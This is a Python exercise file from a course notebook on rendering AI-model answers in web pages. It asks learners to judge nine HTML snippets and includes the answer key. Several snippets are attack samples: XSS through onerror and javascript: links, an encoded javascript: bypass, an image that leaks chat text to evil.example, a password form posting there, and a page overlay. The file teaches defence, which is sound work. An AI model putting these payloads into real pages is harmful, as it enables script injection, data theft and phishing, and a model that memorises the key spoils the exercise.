"""Notebook 08: what of a model's answer may get into a page.

Its other exercises: coalescing.py, sentence_buffer.py and bill.py.
"""

from typing import NamedTuple

from helpers.lessons.checking.part import Case, Part
from helpers.lessons.common.verdicts import verdict_case

__all__ = ["PARTS", "PIECES", "Piece"]

NOTEBOOK = "08_production_ui"


STUB = """\
DANGEROUS = {
    "A": ...,
    "B": ...,
    "C": ...,
    "D": ...,
    "E": ...,
    "F": ...,
    "G": ...,
    "H": ...,
    "I": ...,
}
"""

REFERENCE = """\
DANGEROUS = {
    "A": False,  # text, and how it looks
    "B": True,  # no script element, and a script all the same
    "C": True,  # runs at a click, with all that the page may do
    "D": False,  # escaped: it shows as the words that it is
    "E": True,  # the address is the message: your prompt is in it
    "F": False,  # leads to another page, which can't reach back into this one
    "G": True,  # a page reads &#115; as s before it looks at the address
    "H": True,  # asks for a password in your name
    "I": True,  # covers the page with one of its own
}
"""


class Piece(NamedTuple):
    """One piece of HTML of the exercise: whether it does harm, and a mistake."""

    letter: str
    html: str
    dangerous: bool
    id: str
    looks_like: str
    try_next: str


PIECES = (
    Piece(
        "A",
        "<p>31 °C and <strong>sunny</strong></p>",
        False,
        "fears-markup",
        "all markup taken for dangerous: then you would show the asterisks",
        "Ask what these tags can do besides changing how a word looks.",
    ),
    Piece(
        "B",
        '<img src="x" onerror="steal()">',
        True,
        "fears-script-elements-only",
        "a look out for <script> alone: an attribute whose name begins with on holds a script, too",
        "There is no picture at the address x. What happens then?",
    ),
    Piece(
        "C",
        '<a href="javascript:steal()">Details</a>',
        True,
        "trusts-links",
        "a link taken for an address: this one is a program, which runs in your page at a click",
        "Look at what stands before the colon.",
    ),
    Piece(
        "D",
        "<code>&lt;script&gt;steal()&lt;/script&gt;</code>",
        False,
        "fears-escaped-text",
        "words taken for what they are about: an escaped < opens nothing, and an answer about "
        "scripts has to show some",
        "Imagine what a reader sees of it.",
    ),
    Piece(
        "E",
        '<img src="https://evil.example/dot.png?said=my+salary+is">',
        True,
        "trusts-pictures",
        "a picture taken for something to look at: the browser fetches it unasked, and its address "
        "carries away what you said",
        "Nothing of it runs. But who learns what, as soon as it is shown?",
    ),
    Piece(
        "F",
        '<a href="https://example.org/" rel="noopener noreferrer">Details</a>',
        False,
        "fears-links",
        "an ordinary link taken for dangerous: the reader sees where it leads, and decides",
        "Compare it with C. What happens without a click, and what with one?",
    ),
    Piece(
        "G",
        '<a href="java&#115;cript:steal()">Details</a>',
        True,
        "looks-for-words",
        "a search for the word `javascript:`, which isn't there until the browser has read it: "
        "that is why lists of bad words lose, and why a sanitizer parses",
        "Read &#115; as a browser does.",
    ),
    Piece(
        "H",
        '<form action="https://evil.example/"><input name="password"></form>',
        True,
        "trusts-forms",
        "harm looked for in scripts alone: a form needs none, and this one asks in your name",
        "Ask who would get what a reader types here, and whom they would think they told.",
    ),
    Piece(
        "I",
        '<b style="position:fixed;inset:0;background:white">Log in again</b>',
        True,
        "trusts-styles",
        "a style taken for decoration: this one lays itself over your whole page",
        "Say in words what each of the three properties does.",
    ),
)


def piece_case(piece: Piece) -> Case:
    """A case that asks for one letter."""
    return verdict_case(
        "DANGEROUS",
        "piece",
        piece.letter,
        piece.html,
        piece.dangerous,
        mistake=(piece.id, piece.looks_like, piece.try_next),
        how="Write True if it must not get into a page, False if it may.",
    )


DANGEROUS = Part(
    id="dangerous",
    title="Which of these must not get into a page?",
    notebook=NOTEBOOK,
    minutes=5,
    difficulty="gentle",
    teaches="You can say of a piece of HTML whether it does harm, and by what.",
    stub=STUB,
    reference=REFERENCE,
    cases=tuple(map(piece_case, PIECES)),
    hints=(
        "Three questions for each. Does it run anything? Does it fetch anything unasked? Could it "
        "pass for something that you have said or asked for?",
        "Two can run something at a click, one without. One fetches, one asks for a password, one "
        "covers the page. Three are what a good answer consists of.",
        "The verdicts, with a reason for each:",
    ),
    module=__name__,
    in_build=False,
)


PARTS = (DANGEROUS,)
